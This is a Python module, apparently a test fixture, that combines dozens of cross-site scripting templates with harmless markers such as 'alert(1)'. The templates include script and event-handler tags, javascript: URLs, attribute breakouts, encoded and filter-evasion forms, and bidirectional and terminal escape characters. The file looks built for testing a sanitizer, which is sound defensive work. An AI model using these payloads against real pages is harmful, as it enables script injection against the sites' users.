# ruff: noqa: E501
"""Texts that would run as a script, break out of an attribute, or disguise themselves, if a page let them."""

from __future__ import annotations

from itertools import product

_RUN = ("window.ran=1", "alert(1)", "parent.ran=1", "top[`ran`]=1")
_TAGS = (
    "<script>{}</script>", "<script src=data:text/javascript,{}></script>", "<script type=module>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</pre><script>{}</script>",
    "</style><script>{}</script>", "<!--><script>{}</script>-->", "<svg><script>{}</script></svg>",
    "<svg onload={}>", "<svg/onload={}//", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>", "<math><mtext><script>{}</script></mtext></math>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<image src=x onerror={}>",
    "<img/src/onerror={}>", "<img src=1 href=1 onerror={}></img>", "<video><source onerror={}></video>",
    "<video src=x onerror={}>", "<audio src=x onerror={}>", "<body onload={}>", "<body onpageshow={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>", "<iframe onload={}>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>", "<marquee onstart={}>x</marquee>", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<a href=&#106;avascript:{}>x</a>", "<form action=javascript:{}><button>x</form>",
    "<button formaction=javascript:{}>x</button>", "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=data:text/css,*{{}} onload={}>", "<style>@import 'javascript:{}'</style>",
    "<style onload={}></style>", "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xss id=x tabindex=1 autofocus onfocus={}>x</xss>", "<div style='animation-name:x' onanimationstart={}>x</div>",
    "<p onmouseover={}>x</p>", "<isindex action=javascript:{}>", "<bgsound src=javascript:{}>",
    "<table background=javascript:{}>", "<frameset onload={}>", "<dialog open oncancel={}>x</dialog>",
)  # fmt: skip
_BREAKS = (
    '" onfocus={} autofocus x="', "' onfocus={} autofocus x='", '"><script>{}</script>', "'><script>{}</script>",
    '" onmouseover={} "', "`onerror={}`", "javascript:{}", "JaVaScRiPt:{}", "\x01javascript:{}", "data:text/html,<script>{}</script>",
    "vbscript:{}", "//{}", "{{{{{}}}}}", "{{% set x = {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "\\\"><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr<script>ipt>{}</scr</script>ipt>", "<\x00script>{}</script>", "<scr\u200bipt>{}</script>", "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>", "\u2028{}\u2029", "*/{}/*", "';{}//", '";{}//',
)  # fmt: skip
_UNSEEN = (
    "\u202e{}\u202c",
    "\u2066{}\u2069",
    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
    "\x1b[31m{}\x1b[0m",
    "\ufeff{}\u200f",
)
"""Direction marks and escape sequences."""

PAYLOADS = [form.format(run) for form, run in product((*_TAGS, *_BREAKS, *_UNSEEN), _RUN)]
HIDDEN = "\u202e\u202c\u2066\u2069\u200f\u200b\ufeff\x1b"
"""What no page may hold."""
